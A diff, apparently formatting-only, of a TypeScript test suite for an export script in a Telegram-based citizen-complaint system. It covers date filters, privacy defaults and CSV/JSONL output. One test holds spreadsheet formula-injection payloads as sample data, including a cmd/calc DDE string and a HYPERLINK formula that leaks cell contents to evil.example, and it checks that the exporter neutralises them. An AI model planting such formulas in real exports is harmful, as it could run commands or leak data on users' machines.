@@ -19,7 +19,14 @@ const { uri, dbName } = useTestDb({ cleanEach: true });
 const HOUR = 3_600_000;
 const T0 = new Date("2026-03-01T06:00:00Z"); // 10 Esfand 1404, 09:30 in Tehran
 const at = (h: number) => new Date(T0.getTime() + h * HOUR);
-const OFFICIAL: StaffMember = { platform: "telegram", userId: 9001, name: "Karimi", role: "official", regions: [], departments: [] };
+const OFFICIAL: StaffMember = {
+  platform: "telegram",
+  userId: 9001,
+  name: "Karimi",
+  role: "official",
+  regions: [],
+  departments: [],
+};
 const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3, 250, 0, 7, 0xff, 0xd9]);
 const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
 const DATE_ERROR = "(YYYY-MM-DD Jalali or Gregorian, e.g. 1405-09-01 or 2026-11-22, or ISO, e.g. 2026-11-28T05:30:00Z)";
@@ -27,8 +34,15 @@ const DATE_ERROR = "(YYYY-MM-DD Jalali or Gregorian, e.g. 1405-09-01 or 2026-11-
 /** stdout and stderr apart: stdout must stay clean data. */
 function exportCli(args: string[], env: Record<string, string> = {}) {
   return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
-    execFile(process.execPath, ["--import", "tsx", "scripts/export.ts", ...args], { cwd: ROOT, env: cleanEnv({ MONGODB_URI: uriFor(uri, dbName), TZ_NAME: "Asia/Tehran", ...env }), maxBuffer: 1 << 26 }, (err, stdout, stderr) =>
-      resolve({ code: err ? Number(err.code ?? 1) : 0, stdout, stderr }),
+    execFile(
+      process.execPath,
+      ["--import", "tsx", "scripts/export.ts", ...args],
+      {
+        cwd: ROOT,
+        env: cleanEnv({ MONGODB_URI: uriFor(uri, dbName), TZ_NAME: "Asia/Tehran", ...env }),
+        maxBuffer: 1 << 26,
+      },
+      (err, stdout, stderr) => resolve({ code: err ? Number(err.code ?? 1) : 0, stdout, stderr }),
     );
   });
 }
@@ -39,7 +53,14 @@ async function submit(over: Partial<SubmitInput>): Promise<ReportDoc> {
   const { report } = await submitReport({
     submissionKey: `export-${seq}`,
     platform: "telegram",
-    citizen: { userId: 5000 + seq, chatId: 5000 + seq, name: "Sara Ahmadi", username: "sara_a", phone: "+989121234567", locale: "fa" },
+    citizen: {
+      userId: 5000 + seq,
+      chatId: 5000 + seq,
+      name: "Sara Ahmadi",
+      username: "sara_a",
+      phone: "+989121234567",
+      locale: "fa",
+    },
     categoryKey: "water",
     description: "لوله آب شکسته است",
     location: null,
@@ -58,7 +79,11 @@ async function submit(over: Partial<SubmitInput>): Promise<ReportDoc> {
  * B: road in r2 a day later, still new. C: lighting in r1 two days later, rejected.
  */
 async function seed(): Promise<{ a: ReportDoc; b: ReportDoc; c: ReportDoc }> {
-  const photoId = await storePhoto(JPEG, { filename: "a.jpg", contentType: "image/jpeg", source: { platform: "telegram", fileUniqueId: "u1" } });
+  const photoId = await storePhoto(JPEG, {
+    filename: "a.jpg",
+    contentType: "image/jpeg",
+    source: { platform: "telegram", fileUniqueId: "u1" },
+  });
   const a = await submit({
     description: 'pipe burst, "urgent"',
     address: "خیابان آزادی، پلاک ۱۲",
@@ -71,32 +96,51 @@ async function seed(): Promise<{ a: ReportDoc; b: ReportDoc; c: ReportDoc }> {
   await seedOnSiteVisit(a, OFFICIAL, at(5)); // water and road need one before Resolve
   await resolveCase(a._id, OFFICIAL, "fixed", null, at(5));
   await rateCase(a._id, "telegram", a.citizen.userId, 4, at(6));
-  const b = await submit({ categoryKey: "road", route: { regionKey: "r2", chat: null, needsLocationCheck: false }, now: at(24) });
-  const c = await submit({ categoryKey: "lighting", route: { regionKey: "r1", chat: null, needsLocationCheck: false }, now: at(48) });
+  const b = await submit({
+    categoryKey: "road",
+    route: { regionKey: "r2", chat: null, needsLocationCheck: false },
+    now: at(24),
+  });
+  const c = await submit({
+    categoryKey: "lighting",
+    route: { regionKey: "r1", chat: null, needsLocationCheck: false },
+    now: at(48),
+  });
   await rejectCase(c._id, OFFICIAL, "not ours", at(51));
   return { a, b, c };
 }
 
 // Default: no free-text column (address, venue, description may name people); the code as text ('…).
-const HEADER = "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
+const HEADER =
+  "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
 const rowA = (code: string) =>
   `'${code},telegram,resolved,water,water,r1,2026-03-01T06:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,2026-03-01T11:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰,35.85,50.9,Karimi,1,5,yes,4,1,1,yes,5`;
-const rowB = (code: string) => `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,,,,0,0,no,`;
-const rowC = (code: string) => `'${code},telegram,rejected,lighting,lighting,r1,2026-03-03T06:00:00.000Z,۱۲ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,3,,,,0,0,no,`;
+const rowB = (code: string) =>
+  `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,,,,0,0,no,`;
+const rowC = (code: string) =>
+  `'${code},telegram,rejected,lighting,lighting,r1,2026-03-03T06:00:00.000Z,۱۲ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,3,,,,0,0,no,`;
 // --with-text (or --with-personal): the free-text columns come back in their place, after lat/lon.
-const HEADER_TEXT = "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,address,venue_title,description,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
+const HEADER_TEXT =
+  "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,address,venue_title,description,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
 const rowAText = (code: string) =>
   `'${code},telegram,resolved,water,water,r1,2026-03-01T06:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,2026-03-01T11:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰,35.85,50.9,خیابان آزادی، پلاک ۱۲,مدرسه بهار,"pipe burst, ""urgent""",Karimi,1,5,yes,4,1,1,yes,5`;
-const rowBText = (code: string) => `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,لوله آب شکسته است,,,,,,0,0,no,`;
+const rowBText = (code: string) =>
+  `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,لوله آب شکسته است,,,,,,0,0,no,`;
 
-const lines = (csv: string) => csv.replace(/^\uFEFF/, "").trimEnd().split("\n");
+const lines = (csv: string) =>
+  csv
+    .replace(/^\uFEFF/, "")
+    .trimEnd()
+    .split("\n");
 
 // Each case spawns a tsx child (a second or two apiece): a wider budget than the default.
 describe("npm run export (scripts/export.ts as a child process)", { timeout: 180_000 }, () => {
   it("--help: usage, says personal data is off by default, exit 0", async () => {
     const help = await exportCli(["--help"]);
     expect(help.code).toBe(0);
-    expect(help.stdout.split("\n")[0]).toBe("Usage: npm run export -- [--format csv|jsonl] [--out <file>] [filters] [--with-text] [--with-personal] [--photos <dir>]");
+    expect(help.stdout.split("\n")[0]).toBe(
+      "Usage: npm run export -- [--format csv|jsonl] [--out <file>] [filters] [--with-text] [--with-personal] [--photos <dir>]",
+    );
     expect(help.stdout).toMatch(/--with-personal .*off by default/);
     expect(help.stdout).toMatch(/--with-text .*description, address and venue title .*off by default/);
     expect(help.stdout).toMatch(/--from <date> .*Jalali \(e\.g\. 1405-09-01: a year below 1700\)/);
@@ -104,7 +148,10 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
 
   it("Jalali --from/--to (a year below 1700) are Tehran days like the Gregorian ones; Persian digits and / accepted", async () => {
     const { a, b, c } = await seed();
-    const codes = async (args: string[]) => lines((await exportCli(args)).stdout).slice(1).map((l) => l.split(",")[0]!.replace(/^'/, ""));
+    const codes = async (args: string[]) =>
+      lines((await exportCli(args)).stdout)
+        .slice(1)
+        .map((l) => l.split(",")[0]!.replace(/^'/, ""));
     // A: 10 Esfand 1404 (2026-03-01), B: 11 Esfand, C: 12 Esfand.
     const got = await Promise.all([
       codes(["--from", "1404-12-11", "--to", "1404-12-11"]),
@@ -120,7 +167,11 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
     const known = ((await Region.distinct("key")) as string[]).sort();
     expect(known).toContain("r1");
     const r = await exportCli(["--region", "r1,nowhere"]);
-    expect(r).toEqual({ code: 1, stdout: "", stderr: `--region "nowhere" is not a region; regions: ${known.join(", ")}\n` });
+    expect(r).toEqual({
+      code: 1,
+      stdout: "",
+      stderr: `--region "nowhere" is not a region; regions: ${known.join(", ")}\n`,
+    });
   });
 
   it("CSV to stdout: BOM, header, one exact row per report oldest first; progress only on stderr", async () => {
@@ -135,7 +186,10 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
   it("filters: status, region + category, date range (YYYY-MM-DD = a Tehran day, --to inclusive), ISO", async () => {
     const { a, b, c } = await seed();
     // The code cell is text for Excel ('12345678): the code is what follows the apostrophe.
-    const codes = async (args: string[]) => lines((await exportCli(args)).stdout).slice(1).map((l) => l.split(",")[0]!.replace(/^'/, ""));
+    const codes = async (args: string[]) =>
+      lines((await exportCli(args)).stdout)
+        .slice(1)
+        .map((l) => l.split(",")[0]!.replace(/^'/, ""));
     // Independent children: run them side by side.
     const got = await Promise.all([
       codes(["--status", "new,assigned"]),
@@ -155,15 +209,45 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
     const out = path.join(dir, "reports.jsonl");
     const r = await exportCli(["--format", "jsonl", "--out", out, "--status", "resolved,new", "--with-text"]);
     expect(r).toMatchObject({ code: 0, stdout: "" });
-    const rows = (await readFile(out, "utf8")).trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
+    const rows = (await readFile(out, "utf8"))
+      .trimEnd()
+      .split("\n")
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(rows).toHaveLength(2);
     expect(rows[0]).toEqual({
-      code: a.code, platform: "telegram", status: "resolved", category: "water", department: "water", region: "r1",
-      created_at: "2026-03-01T06:00:00.000Z", created_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰", resolved_at: "2026-03-01T11:00:00.000Z", resolved_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰",
-      lat: 35.85, lon: 50.9, address: "خیابان آزادی، پلاک ۱۲", venue_title: "مدرسه بهار", description: 'pipe burst, "urgent"', assignee: "Karimi",
-      first_response_hours: 1, resolve_hours: 5, within_sla: true, rating: 4, photos: 1, visits: 1, onsite_visit: true, first_visit_hours: 5,
+      code: a.code,
+      platform: "telegram",
+      status: "resolved",
+      category: "water",
+      department: "water",
+      region: "r1",
+      created_at: "2026-03-01T06:00:00.000Z",
+      created_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰",
+      resolved_at: "2026-03-01T11:00:00.000Z",
+      resolved_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰",
+      lat: 35.85,
+      lon: 50.9,
+      address: "خیابان آزادی، پلاک ۱۲",
+      venue_title: "مدرسه بهار",
+      description: 'pipe burst, "urgent"',
+      assignee: "Karimi",
+      first_response_hours: 1,
+      resolve_hours: 5,
+      within_sla: true,
+      rating: 4,
+      photos: 1,
+      visits: 1,
+      onsite_visit: true,
+      first_visit_hours: 5,
     });
-    expect(rows[1]).toMatchObject({ code: b.code, status: "new", lat: null, resolved_at: null, within_sla: null, rating: null });
+    expect(rows[1]).toMatchObject({
+      code: b.code,
+      status: "new",
+      lat: null,
+      resolved_at: null,
+      within_sla: null,
+      rating: null,
+    });
     expect(Object.keys(rows[1]!)).not.toContain("citizen_name");
   });
 
@@ -174,12 +258,19 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
     expect(plain.stdout).not.toContain("+98912");
     const personal = await exportCli(["--status", "resolved", "--with-personal"]);
     // The phone starts with "+": neutralised like any formula-looking cell (Excel would read +98… as a formula or a number).
-    expect(lines(personal.stdout)).toEqual([`${HEADER_TEXT},citizen_name,citizen_username,citizen_phone`, `${rowAText(a.code)},Sara Ahmadi,sara_a,'+989121234567`]);
+    expect(lines(personal.stdout)).toEqual([
+      `${HEADER_TEXT},citizen_name,citizen_username,citizen_phone`,
+      `${rowAText(a.code)},Sara Ahmadi,sara_a,'+989121234567`,
+    ]);
   });
 
   it("free text (description, address, venue title) is left out by default, in CSV and JSON lines; --with-text brings it back", async () => {
     const { a, b } = await seed();
-    const [plain, jsonl, text] = await Promise.all([exportCli(["--status", "resolved,new"]), exportCli(["--status", "resolved,new", "--format", "jsonl"]), exportCli(["--status", "resolved,new", "--with-text"])]);
+    const [plain, jsonl, text] = await Promise.all([
+      exportCli(["--status", "resolved,new"]),
+      exportCli(["--status", "resolved,new", "--format", "jsonl"]),
+      exportCli(["--status", "resolved,new", "--with-text"]),
+    ]);
     for (const secret of ["pipe burst", "خیابان آزادی", "مدرسه بهار", "لوله آب"]) {
       expect(plain.stdout).not.toContain(secret);
       expect(jsonl.stdout).not.toContain(secret);
@@ -204,11 +295,19 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
     const out = await exportCli(["--with-personal"]);
     const row = lines(out.stdout)[1]!;
     // lat, lon (a negative number is a number, written as is), address, venue, description, assignee.
-    expect(row).toContain(`,35.85,-0.5,'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")","'\r=2+2",`);
+    expect(row).toContain(
+      `,35.85,-0.5,'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")","'\r=2+2",`,
+    );
     expect(row.endsWith(",'+Sara,'-sara,09121234567")).toBe(true);
     // JSON lines are data for programs, not spreadsheets: values as stored.
-    const json = JSON.parse((await exportCli(["--with-personal", "--format", "jsonl"])).stdout) as Record<string, unknown>;
-    expect(json).toMatchObject({ description: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")', citizen_name: "+Sara" });
+    const json = JSON.parse((await exportCli(["--with-personal", "--format", "jsonl"])).stdout) as Record<
+      string,
+      unknown
+    >;
+    expect(json).toMatchObject({
+      description: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
+      citizen_name: "+Sara",
+    });
   });
 
   it("the code column is text in Excel: a code with leading zeros keeps them (CSV '0…, JSON a string)", async () => {
@@ -231,8 +330,16 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
   });
 
   it("--photos saves each photo with the extension of its real type, read from its bytes: a PNG as .png, a JPEG as .jpg", async () => {
-    const png = await storePhoto(PNG, { filename: "p.png", contentType: "image/jpeg", source: { platform: "telegram", fileUniqueId: "p1" } });
-    const jpeg = await storePhoto(JPEG, { filename: "j.jpg", contentType: "image/jpeg", source: { platform: "telegram", fileUniqueId: "j1" } });
+    const png = await storePhoto(PNG, {
+      filename: "p.png",
+      contentType: "image/jpeg",
+      source: { platform: "telegram", fileUniqueId: "p1" },
+    });
+    const jpeg = await storePhoto(JPEG, {
+      filename: "j.jpg",
+      contentType: "image/jpeg",
+      source: { platform: "telegram", fileUniqueId: "j1" },
+    });
     const r = await submit({
       photos: [
         { fileId: "p", fileUniqueId: "p1", gridfsId: png, mime: "image/jpeg", size: PNG.length },
@@ -254,7 +361,10 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
       [["--to", "yesterday"], `--to "yesterday" is not a date ${DATE_ERROR}\n`],
       // 1404 is a common Jalali year: no 30 Esfand.
       [["--to", "1404-12-30"], `--to "1404-12-30" is not a date ${DATE_ERROR}\n`],
-      [["--status", "new,open"], `--status "open" is not a status; statuses: new, assigned, in_progress, resolved, rejected, duplicate, reopened\n`],
+      [
+        ["--status", "new,open"],
+        `--status "open" is not a status; statuses: new, assigned, in_progress, resolved, rejected, duplicate, reopened\n`,
+      ],
       [["--format", "xlsx"], `--format "xlsx" is not one of csv, jsonl\n`],
     ] as const) {
       runs.push(exportCli([...args]).then((r) => expect(r).toEqual({ code: 1, stdout: "", stderr: message })));
